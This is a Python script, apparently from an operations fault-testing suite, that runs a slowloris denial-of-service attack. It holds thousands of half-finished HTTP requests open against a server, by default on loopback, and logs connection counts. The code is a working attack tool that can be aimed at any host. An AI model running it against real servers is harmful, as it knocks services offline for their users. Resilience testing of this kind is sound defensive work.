#!/usr/bin/env python3
"""ops/faults/lib/slowloris.py: holds N slow HTTP connections to a server (for ops/faults/flood).

Each connection sends a request line and then one header byte every --interval seconds, never
finishing its header block, as the slowloris attack does. A connection the server closes (its
header deadline, or a 503 for a cap) is opened again after --interval seconds, so the attack
keeps pressing for as long as it runs. Connections come from --source (any 127.0.0.0/8 address
is loopback), so that probes from 127.0.0.1 are another client.

Every second it rewrites --status with one JSON object: wanted, open (connected, not closed by
the server), opened (connects in all), closed_by_server, refused_503, connect_errors.
Runs until SIGTERM or SIGINT.
"""
import argparse
import errno
import json
import os
import resource
import selectors
import signal
import socket
import time


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--host", default="127.0.0.1")
    ap.add_argument("--source", default="127.0.0.2")
    ap.add_argument("--connections", type=int, default=2000)
    ap.add_argument("--interval", type=float, default=2.0)
    ap.add_argument("--status", required=True)
    args = ap.parse_args()

    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    want = args.connections + 64
    if soft < want:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(want, hard), hard))

    stop = False

    def on_signal(*_):
        nonlocal stop
        stop = True

    signal.signal(signal.SIGTERM, on_signal)
    signal.signal(signal.SIGINT, on_signal)

    sel = selectors.DefaultSelector()
    stats = {"wanted": args.connections, "open": 0, "opened": 0, "closed_by_server": 0,
             "refused_503": 0, "connect_errors": 0}
    # slot -> dict(sock, next_byte, reopen_at)
    slots = [{"sock": None, "next": 0.0, "reopen": 0.0} for _ in range(args.connections)]

    def open_slot(i, now):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        try:
            s.bind((args.source, 0))
            s.connect_ex((args.host, args.port))
        except OSError:
            s.close()
            stats["connect_errors"] += 1
            slots[i]["reopen"] = now + args.interval
            return
        slots[i].update(sock=s, next=now, started=False, reopen=0.0)
        sel.register(s, selectors.EVENT_READ, i)
        stats["opened"] += 1

    def close_slot(i, now, by_server):
        s = slots[i]["sock"]
        if s is None:
            return
        sel.unregister(s)
        s.close()
        slots[i].update(sock=None, reopen=now + args.interval)
        if by_server:
            stats["closed_by_server"] += 1

    last_status = 0.0
    while not stop:
        now = time.monotonic()
        for i, slot in enumerate(slots):
            if slot["sock"] is None:
                if now >= slot["reopen"]:
                    open_slot(i, now)
                continue
            if now >= slot["next"]:
                s = slot["sock"]
                data = b"X-a: b\r\n"[:1] if slot["started"] else b"GET / HTTP/1.1\r\nHost: x\r\n"
                try:
                    s.send(data)
                    slot["started"] = True
                    slot["next"] = now + args.interval
                except BlockingIOError:
                    slot["next"] = now + 0.05  # still connecting
                except OSError as e:
                    if e.errno == errno.ENOTCONN:
                        slot["next"] = now + 0.05
                    else:
                        close_slot(i, now, True)
        for key, _ in sel.select(timeout=0.05):
            i = key.data
            s = slots[i]["sock"]
            try:
                data = s.recv(4096)
            except BlockingIOError:
                continue
            except OSError:
                data = b""
            if data.startswith(b"HTTP/1.1 503"):
                stats["refused_503"] += 1
            close_slot(i, time.monotonic(), True)
        if now - last_status >= 1.0:
            stats["open"] = sum(1 for s in slots if s["sock"] is not None and s["started"])
            with open(args.status + ".tmp", "w") as f:
                json.dump(stats, f)
            os.replace(args.status + ".tmp", args.status)
            last_status = now
    for i in range(len(slots)):
        close_slot(i, time.monotonic(), False)


if __name__ == "__main__":
    main()
